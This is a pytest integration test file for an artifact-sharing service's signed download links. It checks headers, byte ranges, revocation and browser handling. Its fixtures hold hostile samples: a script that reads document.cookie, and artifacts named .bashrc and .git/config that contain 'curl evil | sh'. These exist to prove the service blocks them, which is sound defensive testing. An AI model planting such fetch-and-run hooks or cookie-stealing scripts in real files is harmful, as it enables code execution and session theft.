"""Signed links through real servers: gunicorn, nginx (X-Accel-Redirect), an S3 server, curl
and headless Chromium. Each stack runs on its own SQLite database and storage."""

import hashlib
import html
import os
import re
import shutil
import subprocess
import uuid
from urllib.parse import quote

import pytest

from devtools.browser import Browser
from devtools.share_stack import ShareStack

from .conftest import S3_CREDENTIALS, Store

pytestmark = pytest.mark.slow

PAYLOAD = os.urandom(3 * 1024 * 1024 + 17)
TEXT = b"plain text, shown inline\n"
# Would retitle the page and leak the cookie if it ever ran in the app's origin.
HOSTILE = (
    b"<!doctype html><title>harmless</title><script>"
    b"document.title = 'pwned ' + document.cookie;"
    b"document.body.setAttribute('data-ran', 'yes')</script><body>hostile page</body>"
)
# What every serving mode must answer identically (S3: on the 302 it answers).
SIGNED_HEADERS = [
    "ETag",
    "X-Checksum-Sha256",
    "Repr-Digest",
    "Content-Disposition",
    "X-Content-Type-Options",
    "Content-Security-Policy",
    "Referrer-Policy",
    "X-Robots-Tag",
    "Cache-Control",
]


def _stock(stack: ShareStack) -> dict:
    stack.upload("dist/app.bin", PAYLOAD)
    stack.upload("dist/notes.txt", TEXT, "text/plain")
    stack.upload("site/index.html", HOSTILE, "text/html")
    stack.finish()
    return stack.share()


@pytest.fixture(scope="module", params=["direct", "x-accel", "s3"])
def stack(request, tmp_path_factory):
    mode = request.param
    s3 = None
    if mode == "s3":
        store = Store(
            "s3",
            endpoint=request.getfixturevalue("s3_server"),
            bucket=f"share-{uuid.uuid4().hex[:12]}",
        )
        store.client().create_bucket(Bucket=store.bucket)
        s3 = {
            "AWS_STORAGE_BUCKET_NAME": store.bucket,
            "AWS_S3_ENDPOINT_URL": store.endpoint,
            "AWS_S3_PUBLIC_ENDPOINT_URL": store.endpoint,
            "AWS_S3_REGION_NAME": "us-east-1",
            "AWS_ACCESS_KEY_ID": S3_CREDENTIALS["aws_access_key_id"],
            "AWS_SECRET_ACCESS_KEY": S3_CREDENTIALS["aws_secret_access_key"],
        }
    running = ShareStack(tmp_path_factory.mktemp(f"share-{mode}"), mode=mode, s3=s3)
    try:
        running.shared = _stock(running)
        yield running
    finally:
        running.stop()


def curl(*args: str, check=True) -> subprocess.CompletedProcess:
    return subprocess.run(["curl", "-sS", *args], capture_output=True, check=check, timeout=60)


def headers_of(output: bytes) -> tuple[int, dict]:
    """The last response's status and headers from ``curl -D -`` output."""
    blocks = [b for b in output.decode("latin-1").split("\r\n\r\n") if b.startswith("HTTP/")]
    lines = blocks[-1].split("\r\n")
    found = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        found.setdefault(name.strip().lower(), []).append(value.strip())
    return int(lines[0].split()[1]), found


def link(stack, path: str) -> str:
    return next(a["url"] for a in stack.shared["artifacts"] if a["path"] == path)


def test_curl_with_no_headers_downloads_and_resumes(stack, tmp_path):
    url = link(stack, "dist/app.bin")
    out = tmp_path / "app.bin"
    curl("-fL", "-o", str(out), url)
    assert hashlib.sha256(out.read_bytes()).hexdigest() == hashlib.sha256(PAYLOAD).hexdigest()
    # A cut download: the first megabyte is on disk; curl -C - asks for the rest with Range.
    out.write_bytes(PAYLOAD[: 1024 * 1024])
    curl("-fL", "-C", "-", "-o", str(out), url)
    assert out.read_bytes() == PAYLOAD


def test_every_mode_answers_the_same_headers_and_bytes(stack, tmp_path):
    url = link(stack, "dist/app.bin")
    status, headers = headers_of(curl("-D", "-", "-o", os.devnull, url).stdout)
    assert status == (302 if stack.env["SHARE_SERVE_MODE"] == "s3" else 200)
    got = {name: headers.get(name.lower()) for name in SIGNED_HEADERS}
    sha = hashlib.sha256(PAYLOAD).hexdigest()
    assert got == {
        "ETag": [f'"{sha}"'],
        "X-Checksum-Sha256": [sha],
        "Repr-Digest": [headers["repr-digest"][0]],
        "Content-Disposition": ['attachment; filename="app.bin"'],
        "X-Content-Type-Options": ["nosniff"],
        "Content-Security-Policy": ["sandbox"],
        "Referrer-Policy": ["no-referrer"],
        "X-Robots-Tag": ["noindex, nofollow"],
        "Cache-Control": ["private, no-cache"],
    }
    assert "sha-256=:" in got["Repr-Digest"][0]
    part = curl("-fL", "-H", "Range: bytes=100-199", url).stdout
    assert part == PAYLOAD[100:200]
    if stack.env["SHARE_SERVE_MODE"] != "s3":
        assert headers["content-length"] == [str(len(PAYLOAD))]
        assert headers["accept-ranges"] == ["bytes"]
        again = curl("-o", os.devnull, "-w", "%{http_code}", "-H", f'If-None-Match: "{sha}"', url)
        assert again.stdout == b"304"
        stale = curl("-H", "Range: bytes=0-9", "-H", 'If-Range: "stale"', url).stdout
        assert stale == PAYLOAD


SHA = hashlib.sha256(PAYLOAD).hexdigest()
# (request headers, status, body) as every mode must answer them: the app decides preconditions
# and ranges, whatever nginx or S3 would make of the same headers on their own.
DECIDED = [
    ({"Range": "bytes=0-9"}, 206, PAYLOAD[:10]),
    ({"Range": "bytes=0-1,4-5"}, 200, PAYLOAD),
    ({"Range": "bytes=0-1,0-1"}, 200, PAYLOAD),
    ({"Range": "bytes=5-2"}, 200, PAYLOAD),
    ({"Range": "BYTES=0-1"}, 200, PAYLOAD),
    ({"Range": "bytes=0-1,"}, 200, PAYLOAD),
    ({"Range": "bytes=abc"}, 200, PAYLOAD),
    ({"Range": "bytes=-"}, 200, PAYLOAD),
    ({"Range": "bytes=1-" + "9" * 30}, 206, PAYLOAD[1:]),
    ({"If-None-Match": '"another"', "Range": "bytes=0-9"}, 206, PAYLOAD[:10]),
    ({"If-Match": f'"{SHA}"'}, 200, PAYLOAD),
    ({"If-Match": "*"}, 200, PAYLOAD),
    ({"If-Match": f'"{SHA}"', "Range": "bytes=0-9"}, 206, PAYLOAD[:10]),
    ({"If-Match": '"another"'}, 412, b""),
    ({"If-Match": f'W/"{SHA}"'}, 412, b""),
    ({"If-Unmodified-Since": "Thu, 01 Jan 1970 00:00:00 GMT"}, 200, PAYLOAD),
    (
        {"If-Unmodified-Since": "Thu, 01 Jan 1970 00:00:00 GMT", "Range": "bytes=0-9"},
        206,
        PAYLOAD[:10],
    ),
]


@pytest.mark.parametrize(("sent", "status", "body"), DECIDED, ids=[str(d[0]) for d in DECIDED])
def test_preconditions_and_ranges_are_answered_alike_in_every_mode(
    stack, tmp_path, sent, status, body
):
    judged_by_the_app = {"If-Match", "If-Unmodified-Since"} & set(sent)
    if stack.env["SHARE_SERVE_MODE"] == "s3" and "Range" in sent and not judged_by_the_app:
        pytest.skip("S3 serves ranges itself (docs/api.md)")
    args = [arg for name, value in sent.items() for arg in ("-H", f"{name}: {value}")]
    out = tmp_path / "body"
    status_got, headers = headers_of(
        curl("-L", "-D", "-", "-o", str(out), *args, link(stack, "dist/app.bin")).stdout
    )
    assert status_got == status
    if status == 412:
        assert PAYLOAD[:64] not in out.read_bytes()
        return
    assert out.read_bytes() == body
    assert headers["etag"] == [f'"{SHA}"']
    assert headers["accept-ranges"] == ["bytes"]
    assert headers["content-disposition"] == ['attachment; filename="app.bin"']
    assert headers["content-type"] == ["application/octet-stream"]


def test_s3_redirects_to_a_sigv4_url_on_the_public_endpoint(stack):
    if stack.env["SHARE_SERVE_MODE"] != "s3":
        pytest.skip("S3 mode only")
    _, headers = headers_of(curl("-D", "-", "-o", os.devnull, link(stack, "dist/app.bin")).stdout)
    location = headers["location"][0]
    assert location.startswith(stack.env["AWS_S3_PUBLIC_ENDPOINT_URL"] + "/")
    assert "X-Amz-Algorithm=AWS4-HMAC-SHA256" in location
    assert "response-content-disposition" in location


def test_tampered_or_revoked_links_are_403_over_the_wire(stack):
    url = link(stack, "dist/notes.txt")
    tampered = re.sub(r"exp=(\d+)", lambda m: f"exp={int(m[1]) + 1}", url)
    result = curl("-o", "/dev/null", "-w", "%{http_code}", tampered)
    assert result.stdout == b"403"
    share = stack.share(paths=["dist/notes.txt"])
    fresh = share["artifacts"][0]["url"]
    assert curl("-fL", fresh).stdout == TEXT
    stack.api("DELETE", f"/api/v1/keys/{share['key_id']}", stack.token)
    body = curl(fresh).stdout
    assert b"key_revoked" in body and TEXT not in body


def _another_build(stack, files: dict) -> dict:
    """A second, untrusted build of the stack's project holding ``files`` ({path: (bytes,
    content type)}), shared whole; returns the share's body."""
    build = stack.api(
        "POST",
        "/api/v1/projects/share/builds/",
        stack.project_token,
        {"ref": "refs/pull/7/head", "commit": "ba" * 20, "trusted": False},
    )
    token = build["key"]["token"]
    for path, (data, content_type) in files.items():
        answer, _ = stack.request(
            "PUT",
            f"/api/v1/builds/{build['id']}/artifacts/{quote(path)}",
            token,
            data,
            {"Content-Type": content_type},
        )
        assert answer.status == 201
    return stack.api("POST", f"/api/v1/builds/{build['id']}/share", token, {"expires_in": 600})


def _fetch_everything_command(page: str) -> str:
    found = re.search(r"Fetch everything[^<]*</h2>\s*<pre>(.*?)</pre>", page, re.DOTALL)
    return html.unescape(found.group(1))


def test_fetching_everything_writes_only_into_a_directory_of_its_own(stack, tmp_path):
    """An untrusted build names its artifacts after the downloader's own files: the page's
    one command must not write over anything where it is run."""
    if stack.env["SHARE_SERVE_MODE"] != "direct":
        pytest.skip("the page does not depend on the serving mode")
    hostile = {
        ".bashrc": b"curl evil | sh\n",
        ".git/config": b"[core]\n\tfsmonitor = curl evil | sh\n",
        "src/main.c": b"backdoor\n",
    }
    shared = _another_build(
        stack, {path: (data, "application/octet-stream") for path, data in hostile.items()}
    )
    command = _fetch_everything_command(curl("-fL", shared["url"]).stdout.decode())
    checkout = tmp_path / "checkout"
    for path in hostile:
        (checkout / path).parent.mkdir(parents=True, exist_ok=True)
        (checkout / path).write_bytes(b"mine\n")
    before = sorted(p.relative_to(checkout) for p in checkout.rglob("*"))

    ran = subprocess.run(["bash", "-c", command], cwd=checkout, capture_output=True, timeout=60)
    assert ran.returncode == 0, ran.stderr
    assert all((checkout / path).read_bytes() == b"mine\n" for path in hostile)
    made = [p for p in checkout.iterdir() if p.relative_to(checkout) not in before]
    assert len(made) == 1 and made[0].is_dir()
    assert {p: (made[0] / p).read_bytes() for p in hostile} == hostile
    # Run again: the directory is there already, so nothing is fetched or written.
    again = subprocess.run(["bash", "-c", command], cwd=checkout, capture_output=True, timeout=60)
    assert again.returncode != 0
    assert {p: (made[0] / p).read_bytes() for p in hostile} == hostile


@pytest.fixture(scope="module")
def browser():
    try:
        running = Browser()
    except FileNotFoundError:
        if os.environ.get("CI"):
            pytest.fail("chromium is not installed; CI must install it")
        pytest.skip("chromium is not installed")
    try:
        yield running
    finally:
        running.close()


def test_a_browser_opens_the_share_page_and_follows_a_file_link(stack, browser, tmp_path):
    if stack.env["SHARE_SERVE_MODE"] != "direct":
        pytest.skip("the page does not depend on the serving mode")
    browser.open(stack.shared["url"])
    rows = browser.evaluate(
        "Array.from(document.querySelectorAll('tbody td a')).map(a => a.textContent).join(',')"
    )
    assert rows == "app.bin,notes.txt,index.html"
    text = browser.evaluate("document.body.innerText")
    assert hashlib.sha256(PAYLOAD).hexdigest() in text and "sha256sum -c" in text
    shot = tmp_path / "share-page.png"
    browser.screenshot(str(shot))
    assert shot.read_bytes().startswith(b"\x89PNG")
    if os.environ.get("SHARE_SCREENSHOT"):
        shutil.copy(shot, os.environ["SHARE_SCREENSHOT"])
    # Follow the link the page shows, as a person would.
    href = browser.evaluate(
        "Array.from(document.querySelectorAll('a')).find(a => a.textContent == 'notes.txt').href"
    )
    browser.open(href)
    assert browser.evaluate("document.body.innerText") == TEXT.decode()


def test_a_hostile_html_artifact_never_runs_in_the_apps_origin(stack, browser):
    if stack.env["SHARE_SERVE_MODE"] == "s3":
        pytest.skip("S3 serves from its own origin")
    browser.call("Network.enable", session=True)
    browser.call(
        "Network.setCookie",
        session=True,
        name="sessionid",
        value="secret-cookie",
        url=stack.url + "/",
    )
    result = browser.open(link(stack, "site/index.html"))
    # The browser treats it as a download (refused here), never as a page of ours...
    assert result.get("isDownload") is True
    assert "pwned" not in (browser.evaluate("document.title") or "")
    assert browser.evaluate("document.body && document.body.getAttribute('data-ran')") is None


@pytest.mark.parametrize(
    "content_type",
    ["text/plain; x=y, text/html", 'image/png; q="1", text/html'],
)
def test_a_content_type_listing_html_after_a_safe_type_is_still_a_download(
    stack, browser, content_type
):
    """Browsers read the last type of a comma-separated Content-Type: what the uploader wrote
    as "text/plain; x=y, text/html" is HTML to them, so it must not be shown inline."""
    if stack.env["SHARE_SERVE_MODE"] == "s3":
        pytest.skip("S3 serves from its own origin")
    shared = _another_build(stack, {"site/disguised.html": (HOSTILE, content_type)})
    result = browser.open(shared["artifacts"][0]["url"])
    assert result.get("isDownload") is True
    assert browser.evaluate("document.body && document.body.innerText") != "hostile page"
